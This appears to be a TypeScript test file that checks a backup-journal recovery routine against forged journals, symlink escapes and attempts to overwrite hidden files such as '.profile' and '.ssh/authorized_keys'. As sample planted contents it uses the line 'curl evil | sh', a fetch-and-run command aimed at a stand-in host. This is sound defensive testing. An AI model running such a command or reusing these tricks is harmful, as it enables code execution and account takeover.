/** Anyone who can write to a medium can write a journal there: recovery must not touch anything outside of its folder. */
import { createHash } from 'node:crypto';
import {
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  symlink,
  truncate,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { recoverFolder } from '../../../electron/media/index.ts';
import { rawFiles } from '../../../electron/media/raw-files.ts';

/** A process of another computer. */
const ID = '00000000-1-1-000000000000';
const STAGED = `.new.${ID}-0.orgca-partial`;
const ASIDE = `.new.${ID}-1.orgca-replaced`;
const PLANTED = 'planted';

let root: string;
/** The folder of the medium, and one that is not on it. */
let medium: string;
let home: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'orgca-forged-'));
  [medium, home] = [join(root, 'medium'), join(root, 'home')] as const;
  for (const made of [medium, home]) await mkdir(made);
  await writeFile(join(home, 'known'), 'known');
  await symlink(home, join(medium, 'link'));
});
afterEach(() => rm(root, { recursive: true }));

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex').toUpperCase();
const digest = (contents: string) => ({ sha256: sha256(contents), sizeBytes: contents.length });
const entry = (name: string, contents: string, more: object = {}) => ({
  ...{ name, staged: STAGED, aside: ASIDE },
  ...digest(contents),
  ...more,
});

/** Writes the journal of a change that ended long ago. */
async function forge(...files: object[]): Promise<void> {
  const path = join(medium, `.orgca.${ID}.orgca-journal`);
  await writeFile(path, JSON.stringify({ format: 'orgca-backup-journal', formatVersion: 2, files }));
  await utimes(path, new Date(0), new Date(0));
}

const outside = async (): Promise<string[]> =>
  Promise.all(
    (await readdir(home)).sort().map(async (name) => `${name}: ${await readFile(join(home, name), 'utf8')}`),
  );

it.each([
  ['a new file', entry('link/planted', PLANTED)],
  ['a file in place of another one', entry('link/known', PLANTED, { replaced: digest('known') })],
  [
    'a file in place of another one, its temporary files behind the link',
    entry('link/known', PLANTED, {
      replaced: digest('known'),
      staged: `link/${STAGED}`,
      aside: `link/${ASIDE}`,
    }),
  ],
])('plants nothing behind a link: %s', async (_what, file) => {
  await writeFile(join(medium, STAGED), PLANTED);
  await forge(file);
  const before = await outside();
  expect((await recoverFolder(medium)).ok).toBe(true);
  expect(await outside()).toEqual(before);
});

it('puts no old file back behind a link', async () => {
  await writeFile(join(medium, ASIDE), PLANTED);
  await forge(entry('link/planted', 'never there', { replaced: digest('known') }));
  expect((await recoverFolder(medium)).ok).toBe(true);
  expect(await outside()).toEqual(['known: known']);
});

it('removes no file behind a link, whose contents the attacker knows', async () => {
  await writeFile(join(medium, STAGED), PLANTED);
  await forge(entry('link/known', 'known'), entry('other', 'never there'));
  expect((await recoverFolder(medium)).ok).toBe(true);
  expect(await outside()).toEqual(['known: known']);
});

describe('a journal beside files that its writer could not change', () => {
  const NEW = 'curl evil | sh';
  /** Everything below the medium. */
  const inside = async (): Promise<Record<string, string>> => {
    const files = (await readdir(medium, { recursive: true, withFileTypes: true })).filter((one) =>
      one.isFile(),
    );
    const paths = files.map(({ name, parentPath }) => join(parentPath, name));
    const read = await Promise.all(paths.map((path) => readFile(path, 'utf8')));
    return Object.fromEntries(paths.map((path, at) => [path, read[at]!]));
  };

  it.each([
    ['replaces no file whose contents it does not know', 'thesis.odt', { replaced: digest('a guess of it') }],
    ['replaces no file that it calls new', 'thesis.odt', {}],
    ['replaces no hidden file, even a known one', '.profile', { replaced: digest('mine') }],
    ['replaces nothing in a hidden folder', '.ssh/authorized_keys', { replaced: digest('mine') }],
  ])('%s', async (_what, name, more) => {
    const path = join(medium, name);
    const [staged, aside] = [STAGED, ASIDE].map((one) => join(dirname(name), one));
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, 'mine');
    await writeFile(join(medium, staged!), NEW);
    await forge(entry(name, NEW, { staged, aside, ...more }));
    await recoverFolder(medium);
    expect(await readFile(path, 'utf8')).toBe('mine');
  });

  it('puts back no other file than the old one', async () => {
    await writeFile(join(medium, 'thesis.odt'), PLANTED);
    await writeFile(join(medium, ASIDE), NEW);
    await forge(
      entry('thesis.odt', PLANTED, { replaced: digest('old') }),
      entry('never', 'there', { staged: STAGED.replace('-0.', '-2.'), aside: ASIDE.replace('-1.', '-3.') }),
    );
    const before = await inside();
    expect(await recoverFolder(medium)).toMatchObject({ ok: false, failure: { code: 'MEDIA-UNFINISHED' } });
    expect(await inside()).toEqual(before);
  });

  it('says nothing of files that have changed since the change ended', async () => {
    await writeFile(join(medium, 'ca.pfx'), 'changed since');
    await forge(entry('ca.pfx', NEW, { replaced: digest('old') }));
    expect(await recoverFolder(medium)).toEqual({ ok: true, value: [] });
    expect(await readdir(medium)).toEqual(['ca.pfx', 'link']);
  });

  it('is not hashed if there are too many, or if they name too much: the folder is left as it is', async () => {
    const large = { sizeBytes: 3 * 2 ** 30, sha256: sha256('') };
    await truncate(join(medium, 'large'), 0).catch(() => writeFile(join(medium, 'large'), ''));
    await truncate(join(medium, 'large'), large.sizeBytes);
    await forge(entry('large', NEW, { replaced: large }));
    const second = join(medium, `.orgca.${ID.replace(/0$/, '1')}.orgca-journal`);
    const [first] = (await readdir(medium)).filter((name) => name.endsWith('journal'));
    const text = (await readFile(join(medium, first!), 'utf8')).replaceAll(ID, ID.replace(/0$/, '1'));
    await writeFile(second, text);
    await utimes(second, new Date(0), new Date(0));
    expect(await recoverFolder(medium)).toMatchObject({ ok: false, failure: { code: 'MEDIA-UNFINISHED' } });
  });
});

it.each([
  ['that is as large as the journal says', 2 ** 40],
  ['that is larger than the journal says', 7],
])('hashes no endless file %s', async (_how, sizeBytes) => {
  for (const name of ['large', STAGED]) {
    await writeFile(join(medium, name), '');
    await truncate(join(medium, name), 2 ** 40);
  }
  await forge(entry('large', PLANTED, { sizeBytes }));
  const opened: unknown[] = [];
  const fs: typeof rawFiles = {
    ...rawFiles,
    open: (path, ...more) => {
      opened.push(path);
      return /large|partial/.test(String(path)) ? Promise.reject(new Error()) : rawFiles.open(path, ...more);
    },
  };
  await recoverFolder(medium, { fs });
  expect(opened.filter((path) => path !== medium)).toEqual([]);
});
